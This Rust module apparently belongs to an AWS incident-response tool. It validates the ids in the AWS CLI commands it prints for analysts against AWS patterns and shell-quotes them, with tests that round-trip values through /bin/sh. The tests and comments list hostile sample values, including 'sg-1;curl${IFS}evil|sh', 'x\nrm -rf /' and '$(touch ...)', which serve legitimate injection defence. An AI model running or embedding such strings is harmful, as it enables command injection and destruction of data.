//! Commands safe to paste: every value Firebreak places on a command line it prints for an analyst
//! (HOW TO RELEASE, HOW TO UNDO, the state a record could not keep, the approval command) is
//! checked against AWS's pattern for that kind of id and written as one shell word.
//!
//! The values come from tags, which anyone who can tag the instance can write, and from finding
//! fields: a recorded group id of `sg-1;curl${IFS}evil|sh` must never reach the analyst's shell. A
//! value that is not what AWS would have issued is not printed at all: the whole command is
//! replaced by a sentence naming the value, escaped ([`NotPrinted`]). Finding text (titles,
//! descriptions) never goes on a command line.
//!
//! ```text
//! Command::new("aws ec2 modify-network-interface-attribute")
//!     .arg("--region", REGION, region)              // checked, then quote()
//!     .args("--groups", SECURITY_GROUP, &groups)
//!     .build()  → Ok("aws ec2 … --groups sg-0123…")  or  Err(NotPrinted) → "(not printed: …)"
//! ```

use std::fmt;
use std::net::IpAddr;

use crate::incident::ids::Arn;

/// The characters a word may hold and still be printed without quotes (besides ASCII letters and
/// digits): none of them means anything to a POSIX shell, bash or zsh inside a word.
const PLAIN: &str = "_./:=@+,-";

/// `s` as one POSIX shell word, always safe to paste: a word made only of `[A-Za-z0-9_./:=@+,-]`
/// stays as it is (so ordinary ids read as they always did); anything else, the empty string, and
/// a word beginning with `-` (an option) or `=` (zsh's `=command` expansion) is single-quoted,
/// each `'` written `'\''`.
pub fn quote(s: &str) -> String {
    let plain = !s.is_empty()
        && !s.starts_with('-')
        && !s.starts_with('=')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || PLAIN.contains(c));
    if plain {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

/// `s` for running text (not a command): as it is when it is a plain word (see [`quote`]), else in
/// Rust's debug form (`"…"`, control characters and line breaks escaped), so that a value cannot
/// start a line of its own or pass for Firebreak's words.
pub fn shown(s: &str) -> String {
    if !s.is_empty() && quote(s) == s {
        s.to_string()
    } else {
        escaped(s)
    }
}

/// At most this many characters of a value are repeated in a sentence.
const SHOWN_CHARS: usize = 100;

/// `s` in debug form, cut to [`SHOWN_CHARS`] characters.
fn escaped(s: &str) -> String {
    match s.char_indices().nth(SHOWN_CHARS) {
        Some((at, _)) => format!("{:?}…", &s[..at]),
        None => format!("{s:?}"),
    }
}

fn lower_hex(s: &str) -> bool {
    s.bytes()
        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
}

/// `<prefix>-` and 8 or 17 lowercase hexadecimal digits: every EC2 resource id (Amazon EC2 User
/// Guide, "Resource IDs": 8 characters after the hyphen before 2016, 17 since; the pattern AWS
/// publishes for one of them, WorkSpaces' `SecurityGroupId`, is `^(sg-([0-9a-f]{8}|[0-9a-f]{17}))$`).
fn ec2_id(s: &str, prefix: &str) -> bool {
    s.strip_prefix(prefix)
        .and_then(|rest| rest.strip_prefix('-'))
        .is_some_and(|hex| (hex.len() == 8 || hex.len() == 17) && lower_hex(hex))
}

/// A security group id: `^sg-[0-9a-f]{8}([0-9a-f]{9})?$` (see [`ec2_id`]).
pub fn security_group_id(s: &str) -> bool {
    ec2_id(s, "sg")
}

/// A network interface id: `^eni-[0-9a-f]{8}([0-9a-f]{9})?$`.
pub fn network_interface_id(s: &str) -> bool {
    ec2_id(s, "eni")
}

/// An EC2 instance id: `^i-[0-9a-f]{8}([0-9a-f]{9})?$`.
pub fn instance_id(s: &str) -> bool {
    ec2_id(s, "i")
}

/// An Elastic IP allocation id: `^eipalloc-[0-9a-f]{8}([0-9a-f]{9})?$`.
pub fn allocation_id(s: &str) -> bool {
    ec2_id(s, "eipalloc")
}

/// An EBS volume id: `^vol-[0-9a-f]{8}([0-9a-f]{9})?$`.
pub fn volume_id(s: &str) -> bool {
    ec2_id(s, "vol")
}

/// An EBS snapshot id: `^snap-[0-9a-f]{8}([0-9a-f]{9})?$`.
pub fn snapshot_id(s: &str) -> bool {
    ec2_id(s, "snap")
}

/// An AMI id: `^ami-[0-9a-f]{8}([0-9a-f]{9})?$`.
pub fn image_id(s: &str) -> bool {
    ec2_id(s, "ami")
}

/// A region code: `^[a-z]{2}(-[a-z]+)+-\d$` (`us-east-1`, `us-gov-west-1`, `cn-north-1`; the AWS
/// General Reference's region codes, and the region part of Lambda's `FunctionName` pattern,
/// `[a-z]{2}(-gov)?-[a-z]+-\d{1}`).
pub fn region(s: &str) -> bool {
    let parts: Vec<&str> = s.split('-').collect();
    let (Some(first), Some(last)) = (parts.first(), parts.last()) else {
        return false;
    };
    parts.len() >= 3
        && first.len() == 2
        && first.bytes().all(|b| b.is_ascii_lowercase())
        && last.len() == 1
        && last.bytes().all(|b| b.is_ascii_digit())
        && parts[1..parts.len() - 1]
            .iter()
            .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_lowercase()))
}

/// `[\w+=,.@-]` (`\w` is ASCII: letters, digits, `_`), IAM's name alphabet.
fn iam_chars(s: &str) -> bool {
    s.chars()
        .all(|c| c.is_ascii_alphanumeric() || "_+=,.@-".contains(c))
}

/// An IAM user or role name: `[\w+=,.@-]+`, 1–64 characters (IAM API Reference: `UserName` of
/// `User`, `AccessKey`, `PolicyUser`; `RoleName` of `CreateRole`).
pub fn iam_name(s: &str) -> bool {
    (1..=64).contains(&s.len()) && iam_chars(s)
}

/// An IAM inline policy name: `[\w+=,.@-]+`, 1–128 characters (IAM API Reference: `PolicyName`
/// of `PutUserPolicy`, `DeleteUserPolicy`, `DeleteRolePolicy`).
pub fn iam_policy_name(s: &str) -> bool {
    (1..=128).contains(&s.len()) && iam_chars(s)
}

/// An access key id: `^(AKIA|ASIA)[A-Z0-9]{16}$`. IAM's API Reference (`AccessKey`) only says
/// `[\w]+`, 16–128 characters; every key IAM and STS issue is `AKIA…` (a user's) or `ASIA…` (a
/// session's) and 20 characters, which is what the finding parsers accept
/// (`incident::ids::is_access_key_id`).
pub fn access_key_id(s: &str) -> bool {
    s.len() == 20
        && (s.starts_with("AKIA") || s.starts_with("ASIA"))
        && s[4..]
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
}

/// A partition: `aws`, `aws-cn`, `aws-us-gov`, and the isolated ones (`aws-iso-b`, …):
/// `aws(-[a-z]+)*` (ARN format, IAM User Guide "Identify AWS resources with ARNs").
fn partition(s: &str) -> bool {
    s.strip_prefix("aws").is_some_and(|rest| {
        rest.is_empty()
            || rest.strip_prefix('-').is_some_and(|r| {
                r.split('-')
                    .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_lowercase()))
            })
    })
}

/// An ARN: `^arn:aws(-[a-z]+)*:[a-z0-9-]+:[a-z0-9-]*:(\d{12})?:[A-Za-z0-9_+=,.@:/-]+$` — the
/// general format `arn:partition:service:region:account-id:resource` (IAM User Guide, "Identify
/// AWS resources with Amazon Resource Names"), the resource part limited to the characters of
/// IAM names and paths Firebreak prints (an IAM path may hold any printable ASCII: such an ARN is
/// not printed). At most 2048 characters.
pub fn arn(s: &str) -> bool {
    let Some(Arn {
        partition: part,
        service,
        region,
        account,
        resource,
    }) = Arn::parse(s)
    else {
        return false;
    };
    let lower = |t: &str| {
        t.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    };
    s.len() <= 2048
        && partition(part)
        && !service.is_empty()
        && lower(service)
        && lower(region)
        && (account.is_empty()
            || (account.len() == 12 && account.bytes().all(|b| b.is_ascii_digit())))
        && !resource.is_empty()
        && resource
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_+=,.@:/-".contains(c))
}

/// An ARN of `service` whose resource is `<kind>/<rest>`; `rest` when it is.
fn arn_of<'a>(s: &'a str, service: &str, kind: &str) -> Option<&'a str> {
    if !arn(s) {
        return None;
    }
    let a = Arn::parse(s)?;
    (a.service == service && region(a.region) && a.account.len() == 12)
        .then(|| a.resource.strip_prefix(kind)?.strip_prefix('/'))
        .flatten()
}

/// `[A-Za-z0-9_-]`, 1–`max` characters.
fn word(s: &str, max: usize) -> bool {
    (1..=max).contains(&s.len())
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

/// An ECS cluster, by name or ARN: a name is up to 255 letters, digits, underscores and hyphens
/// (ECS API Reference, `CreateCluster`: `clusterName`); an ARN is
/// `arn:<partition>:ecs:<region>:<account>:cluster/<name>`.
pub fn ecs_cluster(s: &str) -> bool {
    word(s, 255) || arn_of(s, "ecs", "cluster").is_some_and(|name| word(name, 255))
}

/// An ECS task, by id or ARN: the id is letters, digits and hyphens (32 hexadecimal digits, or a
/// UUID in older tasks); the ARN is `arn:<partition>:ecs:<region>:<account>:task/[<cluster>/]<id>`
/// (ECS API Reference, `Task.taskArn`).
pub fn ecs_task(s: &str) -> bool {
    let id = |t: &str| word(t, 64) && !t.contains('_');
    id(s)
        || arn_of(s, "ecs", "task").is_some_and(|rest| match rest.split_once('/') {
            Some((cluster, task)) => word(cluster, 255) && id(task),
            None => id(rest),
        })
}

/// A Lambda function, by name (`[a-zA-Z0-9-_]+`, at most 64 characters) or ARN
/// (`arn:<partition>:lambda:<region>:<account>:function:<name>`), either with a `:<version or
/// alias>` qualifier (`$LATEST` or `[a-zA-Z0-9-_]+`): Lambda API Reference, `FunctionName` of
/// `Invoke`: `(arn:(aws[a-zA-Z-]*)?:lambda:)?([a-z]{2}(-gov)?-[a-z]+-\d{1}:)?(\d{12}:)?(function:)?([a-zA-Z0-9-_\.]+)(:(\$LATEST|[a-zA-Z0-9-_]+))?`.
pub fn lambda_function(s: &str) -> bool {
    let named = |t: &str| {
        let (name, qualifier) = match t.split_once(':') {
            Some((n, q)) => (n, Some(q)),
            None => (t, None),
        };
        word(name, 64) && qualifier.is_none_or(|q| q == "$LATEST" || word(q, 128))
    };
    if !s.starts_with("arn:") {
        return named(s);
    }
    let Some(a) = Arn::parse(s) else {
        return false;
    };
    let Some((kind, rest)) = a.resource.split_once(':') else {
        return false;
    };
    let (part, service, reg, account) = (a.partition, a.service, a.region, a.account);
    partition(part)
        && service == "lambda"
        && region(reg)
        && account.len() == 12
        && account.bytes().all(|b| b.is_ascii_digit())
        && kind == "function"
        && named(rest)
}

/// An Auto Scaling group name: 1–255 of ASCII 33 to 126 except `:` (Auto Scaling API Reference,
/// `CreateAutoScalingGroup`: "any ASCII character 33 to 126 … You cannot use a colon"). Such a
/// name may hold shell metacharacters: it is [`quote`]d like every value.
pub fn auto_scaling_group_name(s: &str) -> bool {
    (1..=255).contains(&s.len()) && s.bytes().all(|b| (33..=126).contains(&b) && b != b':')
}

/// An IPv4 or IPv6 address, as `std::net` parses it.
pub fn ip_address(s: &str) -> bool {
    s.parse::<IpAddr>().is_ok()
}

/// An instance's shutdown behaviour: `stop` or `terminate` (EC2 API Reference,
/// `InstanceInitiatedShutdownBehavior`).
pub fn shutdown_behaviour(s: &str) -> bool {
    matches!(s, "stop" | "terminate")
}

/// A kind of value a printed command takes: what to call it, and its check.
#[derive(Clone, Copy)]
pub struct Kind {
    /// `security group id`, `IAM user name`, ….
    pub what: &'static str,
    /// AWS's pattern for it.
    pub valid: fn(&str) -> bool,
}

macro_rules! kinds {
    ($($(#[$doc:meta])* $name:ident = $what:literal, $valid:ident;)*) => {
        $($(#[$doc])* pub const $name: Kind = Kind { what: $what, valid: $valid };)*
    };
}

kinds! {
    /// [`security_group_id`].
    SECURITY_GROUP = "security group id", security_group_id;
    /// [`network_interface_id`].
    NETWORK_INTERFACE = "network interface id", network_interface_id;
    /// [`instance_id`].
    INSTANCE = "instance id", instance_id;
    /// [`allocation_id`].
    ALLOCATION = "Elastic IP allocation id", allocation_id;
    /// [`region`].
    REGION = "region", region;
    /// [`iam_name`].
    IAM_USER = "IAM user name", iam_name;
    /// [`iam_name`].
    IAM_ROLE = "IAM role name", iam_name;
    /// [`iam_policy_name`].
    IAM_POLICY = "IAM policy name", iam_policy_name;
    /// [`access_key_id`].
    ACCESS_KEY = "access key id", access_key_id;
    /// [`arn`].
    ARN = "ARN", arn;
    /// [`ecs_cluster`].
    ECS_CLUSTER = "ECS cluster", ecs_cluster;
    /// [`ecs_task`].
    ECS_TASK = "ECS task", ecs_task;
    /// [`lambda_function`].
    LAMBDA_FUNCTION = "Lambda function name", lambda_function;
    /// [`auto_scaling_group_name`].
    AUTO_SCALING_GROUP = "Auto Scaling group name", auto_scaling_group_name;
    /// [`ip_address`].
    IP_ADDRESS = "IP address", ip_address;
    /// [`shutdown_behaviour`].
    SHUTDOWN_BEHAVIOUR = "shutdown behaviour", shutdown_behaviour;
}

/// Why a command was not printed: the first value that failed its check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NotPrinted {
    value: String,
    what: &'static str,
    reason: Reason,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reason {
    Invalid,
    Option,
    Empty,
}

impl fmt::Display for NotPrinted {
    /// `(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)`: the value
    /// escaped, never on a command line.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (value, what) = (escaped(&self.value), self.what);
        match self.reason {
            Reason::Invalid => write!(f, "(not printed: {value} is not a valid {what})"),
            Reason::Option => write!(
                f,
                "(not printed: the {what} {value} begins with \"-\", which the command would read \
                 as an option)"
            ),
            Reason::Empty => write!(f, "(not printed: no {what} is recorded)"),
        }
    }
}

/// A command line for an analyst to paste: Firebreak's own words (`&'static str`, never data) and
/// values, each checked against its [`Kind`] and [`quote`]d.
#[derive(Debug, Clone)]
pub struct Command {
    line: String,
    refused: Option<NotPrinted>,
}

impl Command {
    /// A command beginning with Firebreak's own words (`aws ec2 modify-instance-attribute`).
    pub fn new(words: &'static str) -> Command {
        Command {
            line: words.to_string(),
            refused: None,
        }
    }

    /// More of Firebreak's own words (`--status Active`).
    pub fn words(mut self, words: &'static str) -> Command {
        self.line.push(' ');
        self.line.push_str(words);
        self
    }

    /// `<flag> <value>`.
    pub fn arg(self, flag: &'static str, kind: Kind, value: &str) -> Command {
        self.arg_with(flag, "", kind, value)
    }

    /// `<flag> <prefix><value>` (`--iam-instance-profile Arn=<arn>`), one word.
    pub fn arg_with(
        mut self,
        flag: &'static str,
        prefix: &'static str,
        kind: Kind,
        value: &str,
    ) -> Command {
        if let Some(v) = self.checked(kind, value) {
            self.line = format!("{} {flag} {}", self.line, quote(&format!("{prefix}{v}")));
        }
        self
    }

    /// `<flag> <value> <value> …` (at least one).
    pub fn args<S: AsRef<str>>(mut self, flag: &'static str, kind: Kind, values: &[S]) -> Command {
        if values.is_empty() && self.refused.is_none() {
            self.refused = Some(NotPrinted {
                value: String::new(),
                what: kind.what,
                reason: Reason::Empty,
            });
        }
        self.line.push(' ');
        self.line.push_str(flag);
        for v in values {
            if let Some(v) = self.checked(kind, v.as_ref()) {
                self.line = format!("{} {}", self.line, quote(v));
            }
        }
        self
    }

    /// `<flag> <data>`: a document Firebreak wrote (the approval event's JSON), always one quoted
    /// word, whatever it holds.
    pub fn data(mut self, flag: &'static str, data: &str) -> Command {
        self.line = format!("{} {flag} {}", self.line, quote(data));
        self
    }

    /// `value` when it may go on the line; else the command is refused (the first reason kept).
    fn checked<'v>(&mut self, kind: Kind, value: &'v str) -> Option<&'v str> {
        let reason = if !(kind.valid)(value) {
            Reason::Invalid
        } else if value.starts_with('-') {
            Reason::Option
        } else {
            return Some(value);
        };
        self.refused.get_or_insert(NotPrinted {
            value: value.to_string(),
            what: kind.what,
            reason,
        });
        None
    }

    /// The command, or why it is not printed.
    pub fn build(self) -> Result<String, NotPrinted> {
        match self.refused {
            Some(why) => Err(why),
            None => Ok(self.line),
        }
    }

    /// `around(command)`, or the sentence that says why it is not printed.
    pub fn or_note(self, around: impl FnOnce(String) -> String) -> String {
        match self.build() {
            Ok(line) => around(line),
            Err(why) => why.to_string(),
        }
    }
}

/// What the printed-command tests share: hostile values, and the check of a notification's text.
#[cfg(test)]
pub(crate) mod testing {
    /// Values an attacker can write in a tag or a finding field.
    pub(crate) const HOSTILE: &[&str] = &[
        "sg-1;curl${IFS}evil|sh",
        "i-1$(id)",
        "a'b",
        "x\nrm -rf /",
        "us-east-1`id`",
        "-rf",
        "a&b>c<d",
        "{a,b}",
        "ok\u{202e}",
    ];

    /// The metacharacters that must never stand outside single quotes on a command line.
    const META: &str = ";|&$`<>(){}\n";

    /// How many command lines `text` holds (each from an `aws ` at the start of a line, after `(`
    /// or after `: `, to the end of the line, the three spaces before a comment, the `)` closing an
    /// inline `(aws …)`, or a `. ` after a closing quote); `Err` names the first metacharacter
    /// outside single quotes, or a quote left open.
    pub(crate) fn check(text: &str) -> Result<usize, String> {
        let bytes = text.as_bytes();
        let mut found = 0;
        let mut at = 0;
        while let Some(i) = text[at..].find("aws ") {
            let start = at + i;
            at = start + 4;
            let before = text[..start].trim_end_matches(' ');
            let inline = before.ends_with('(');
            if !(before.is_empty() || before.ends_with('\n') || inline || before.ends_with(':')) {
                continue;
            }
            found += 1;
            let mut quoted = false;
            let mut j = start;
            while j < bytes.len() {
                let c = bytes[j];
                if quoted {
                    quoted = c != b'\'';
                } else if c == b'\'' {
                    quoted = true;
                } else if c == b'\\' {
                    j += 1;
                } else if c == b'\n'
                    || text[j..].starts_with("   ")
                    || (inline && c == b')')
                    || (j > start && bytes[j - 1] == b'\'' && text[j..].starts_with(". "))
                {
                    break;
                } else if META.as_bytes().contains(&c) {
                    return Err(format!(
                        "{:?} outside quotes in the command {:?}",
                        c as char,
                        &text[start..]
                    ));
                }
                j += 1;
            }
            if quoted {
                return Err(format!("unterminated quote in {:?}", &text[start..]));
            }
            at = j.max(at);
        }
        Ok(found)
    }

    /// `hostile` holds no command with a metacharacter outside quotes, and no more lines than the
    /// same text built from ordinary values (`ordinary`), whose commands it checks as well.
    pub(crate) fn assert_pasteable(hostile: &str, ordinary: &str) {
        let commands = check(ordinary).unwrap_or_else(|e| panic!("{e}\n{ordinary}"));
        assert!(commands > 0, "no command in {ordinary}");
        check(hostile).unwrap_or_else(|e| panic!("{e}\n{hostile}"));
        assert_eq!(
            hostile.lines().count(),
            ordinary.lines().count(),
            "a value started a line of its own:\n{hostile}"
        );
    }
}

#[cfg(test)]
mod tests {
    use super::testing::{assert_pasteable, check, HOSTILE};
    use super::*;

    /// What `/bin/sh` makes of `word`: the one argument `printf %s` prints.
    fn through_sh(word: &str) -> String {
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("printf %s {word}"))
            .output()
            .expect("/bin/sh");
        assert!(out.status.success(), "{word}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    }

    #[test]
    fn quoting_round_trips_through_the_shell() {
        let mut values: Vec<&str> = HOSTILE.to_vec();
        values.extend([
            "",
            "'",
            "''",
            "a b",
            "$(touch /tmp/firebreak-pwned)",
            "`touch /tmp/firebreak-pwned`",
            "${IFS}",
            "line 1\nline 2\r\n",
            "\\'\\",
            "-n",
            "--help",
            "=ls",
            "~root",
            "*",
            "!!",
            "#comment",
            "é ü 中文 🔥",
            "tab\there",
            "sg-0123456789abcdef0",
            "Arn=arn:aws:iam::123456789012:instance-profile/web",
        ]);
        for v in values {
            let q = quote(v);
            assert_eq!(through_sh(&q), v, "{q}");
        }
        assert!(!std::path::Path::new("/tmp/firebreak-pwned").exists());
    }

    #[test]
    fn ordinary_ids_stay_unquoted_and_everything_else_is_quoted() {
        for plain in [
            "sg-0123456789abcdef0",
            "us-east-1",
            "alice@example.com",
            "a+b=c,d.e_f",
            "Arn=arn:aws:iam::123456789012:instance-profile/web",
            "10.0.0.1",
            "fe80::1",
        ] {
            assert_eq!(quote(plain), plain);
        }
        assert_eq!(quote("a'b"), r"'a'\''b'");
        assert_eq!(quote("-rf"), "'-rf'");
        assert_eq!(quote("=ls"), "'=ls'");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("a b"), "'a b'");
        assert_eq!(quote("é"), "'é'");
        assert_eq!(shown("eni-1"), "eni-1");
        assert_eq!(shown("x\nrm -rf /"), r#""x\nrm -rf /""#);
        let long = shown(&format!(" {}", "x".repeat(500)));
        assert!(
            long.ends_with('…') && !long.contains(&"x".repeat(100)),
            "{long}"
        );
    }

    #[test]
    fn ec2_ids_and_regions_are_checked_against_aws_s_patterns() {
        assert!(security_group_id("sg-12345678") && security_group_id("sg-0123456789abcdef0"));
        for bad in [
            "sg-1",
            "sg-0123456789ABCDEF0",
            "sg-123456789",
            "sg-1;curl${IFS}evil|sh",
            " sg-12345678",
        ] {
            assert!(!security_group_id(bad), "{bad}");
        }
        assert!(network_interface_id("eni-0123456789abcdef0") && !network_interface_id("eni-1"));
        assert!(instance_id("i-0123456789abcdef0") && !instance_id("i-1$(id)"));
        assert!(allocation_id("eipalloc-12345678") && !allocation_id("eipassoc-12345678"));
        assert!(
            volume_id("vol-12345678")
                && snapshot_id("snap-0123456789abcdef0")
                && image_id("ami-12345678")
        );
        for good in [
            "us-east-1",
            "eu-west-1",
            "us-gov-west-1",
            "cn-north-1",
            "ap-southeast-2",
            "us-isob-east-1",
        ] {
            assert!(region(good), "{good}");
        }
        for bad in [
            "us-east-1`id`",
            "us-east",
            "useast-1",
            "us-east-12",
            "us--1",
            "US-EAST-1",
            "",
        ] {
            assert!(!region(bad), "{bad}");
        }
    }

    #[test]
    fn names_arns_and_addresses_are_checked_against_aws_s_patterns() {
        assert!(iam_name("alice") && iam_name("a+b=c,d.e@f_g-h") && iam_name(&"a".repeat(64)));
        assert!(
            !iam_name(&"a".repeat(65)) && !iam_name("a`b") && !iam_name("a b") && !iam_name("")
        );
        assert!(iam_policy_name(
            "FirebreakRevokeSessionsOf-i-0123456789abcdef0"
        ));
        assert!(access_key_id("AKIAIOSFODNN7EXAMPLE") && access_key_id("ASIAIOSFODNN7EXAMPLE"));
        assert!(!access_key_id("AKIAIOSFODNN7EXAMPL;") && !access_key_id("AIDAIOSFODNN7EXAMPLE"));
        assert!(arn("arn:aws:iam::123456789012:instance-profile/web"));
        assert!(arn("arn:aws-us-gov:iam::123456789012:instance-profile/a/b"));
        assert!(!arn("arn:aws:iam::123456789012:instance-profile/a b"));
        assert!(
            !arn("arn:aws:iam::1234:instance-profile/a") && !arn("arn:evil:iam::123456789012:x/a")
        );
        assert!(
            ecs_cluster("prod") && ecs_cluster("arn:aws:ecs:us-east-1:123456789012:cluster/prod")
        );
        assert!(
            !ecs_cluster("prod;x") && !ecs_cluster("arn:aws:ecs:us-east-1:123456789012:task/prod")
        );
        let task = "arn:aws:ecs:us-east-1:123456789012:task/prod/0123456789abcdef0123456789abcdef";
        assert!(
            ecs_task(task)
                && ecs_task(
                    "arn:aws:ecs:us-east-1:123456789012:task/9c1a7b2e-1234-4c5d-8e9f-0a1b2c3d4e5f"
                )
        );
        assert!(!ecs_task(
            "arn:aws:ecs:us-east-1:123456789012:task/prod/x$(id)"
        ));
        assert!(lambda_function("fb-securityhub-action") && lambda_function("fb:$LATEST"));
        assert!(lambda_function(
            "arn:aws:lambda:us-east-1:123456789012:function:fb-action:prod"
        ));
        assert!(
            !lambda_function("fb action")
                && !lambda_function(&"f".repeat(65))
                && !lambda_function("fb;id")
        );
        assert!(
            auto_scaling_group_name("web-asg")
                && !auto_scaling_group_name("a:b")
                && !auto_scaling_group_name("a b")
        );
        assert!(ip_address("10.0.0.1") && ip_address("2001:db8::1") && !ip_address("10.0.0.1;id"));
        assert!(shutdown_behaviour("stop") && !shutdown_behaviour("stop;id"));
    }

    fn group_command(region: &str, eni: &str, groups: &[&str]) -> Result<String, NotPrinted> {
        Command::new("aws ec2 modify-network-interface-attribute")
            .arg("--region", REGION, region)
            .arg("--network-interface-id", NETWORK_INTERFACE, eni)
            .args("--groups", SECURITY_GROUP, groups)
            .build()
    }

    #[test]
    fn a_command_with_an_invalid_value_is_not_printed_and_says_why() {
        let eni = "eni-0123456789abcdef0";
        let (a, b) = ("sg-0123456789abcdef0", "sg-12345678");
        assert_eq!(
            group_command("us-east-1", eni, &[a, b]).unwrap(),
            format!("aws ec2 modify-network-interface-attribute --region us-east-1 --network-interface-id {eni} --groups {a} {b}")
        );
        let no = group_command("us-east-1", eni, &[a, "sg-1;curl${IFS}evil|sh"]).unwrap_err();
        assert_eq!(
            no.to_string(),
            r#"(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)"#
        );
        let no = group_command("us-east-1\nrm -rf /", eni, &[a])
            .unwrap_err()
            .to_string();
        assert!(
            no.contains(r#""us-east-1\nrm -rf /" is not a valid region"#),
            "{no}"
        );
        assert!(!no.contains('\n'));
        let no = group_command("us-east-1", eni, &[] as &[&str])
            .unwrap_err()
            .to_string();
        assert_eq!(no, "(not printed: no security group id is recorded)");
        // A valid name that begins with "-" would be an option: not printed either.
        let user = Command::new("aws iam list-user-tags").arg("--user-name", IAM_USER, "-x");
        assert!(user.build().unwrap_err().to_string().contains("option"));
        // A value whose kind allows metacharacters is quoted.
        let f = Command::new("aws lambda get-function").arg(
            "--function-name",
            LAMBDA_FUNCTION,
            "fb:$LATEST",
        );
        assert_eq!(
            f.build().unwrap(),
            "aws lambda get-function --function-name 'fb:$LATEST'"
        );
    }

    #[test]
    fn the_check_finds_metacharacters_outside_quotes_only() {
        assert_eq!(check("x\n  aws iam a --b 'c;d'   (comment; fine)\n"), Ok(1));
        assert_eq!(check("state (aws ec2 x --y z) then; more"), Ok(1));
        assert_eq!(check("see: aws ecs x --q 'a[]'. Then (this)"), Ok(1));
        assert!(check("  aws iam a --b c;d").is_err());
        assert!(check("  aws iam a --b 'c").is_err());
        assert!(check("(aws ec2 x --y $(id))").is_err());
        assert_pasteable("  aws iam a --b 'x y'\n", "  aws iam a --b x\n");
        let injected = std::panic::catch_unwind(|| {
            assert_pasteable("  aws iam a --b x\nrm -rf /\n", "  aws iam a --b x\n")
        });
        assert!(injected.is_err(), "a line of its own is caught");
    }
}
